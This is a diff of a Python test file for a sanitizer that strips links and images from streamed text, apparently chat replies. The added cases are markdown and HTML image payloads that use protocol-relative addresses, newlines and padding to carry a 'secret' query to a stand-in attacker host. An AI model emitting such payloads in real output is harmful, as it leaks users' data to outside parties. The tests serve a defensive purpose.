@@ -31,6 +31,8 @@ def shown(reply: str, step: int) -> str:
         ("<img src=https://evil.example/p.png>Done", "Done"),
         ("<iframe src='javascript:x'>Click</iframe> <https://evil.example>", "Click "),
         ("[x]: https://evil.example", "[x]: (link removed)"),
+        ("![x][z]\n\n[z]: //evil.example/leak Done", "![x][z]\n\n[z]: (link removed) Done"),
+        ("Choose and/or, not 7//2; //console.log(x) // done", "Choose and/or, not 7//2; //console.log(x) // done"),
         ("if a < b and c > d: items[0](f)", "if a < b and c > d: items[0]"),
         ("Half a link [text](https://evil.example/", "Half a link [text]((link removed)"),
     ],
@@ -56,3 +58,20 @@ def test_a_bracket_before_many_links_does_not_stop_the_service(listed: str) -> N
     links = Links(())  # by backtracking this took 2 ** 40 steps
     written = links.feed(f"See [{listed}") + links.feed("\n\nNext") + links.finish()
     assert written.endswith("\n\nNext")
+
+
+@pytest.mark.parametrize("step", [1, 3, 1000])
+@pytest.mark.parametrize(
+    "picture",
+    [
+        "![a\nb](//evil.example/x?q=secret)",
+        "![a\\]b](//evil.example/x?q=secret)",
+        "![x](\n//evil.example/x?q=secret)",
+        "<img\nsrc=//evil.example/x?q=secret>",
+        "<img\nsrc='/\\evil.example/x?q=secret'>",
+        f"![{'a ' * 120}](//evil.example/x?q=secret)",
+        f"<img alt='{'a' * 310}' src=//evil.example/x?q=secret>",
+    ],
+)
+def test_an_address_without_a_protocol_carries_nothing_away(picture: str, step: int) -> None:
+    assert "evil" not in shown(picture, step)
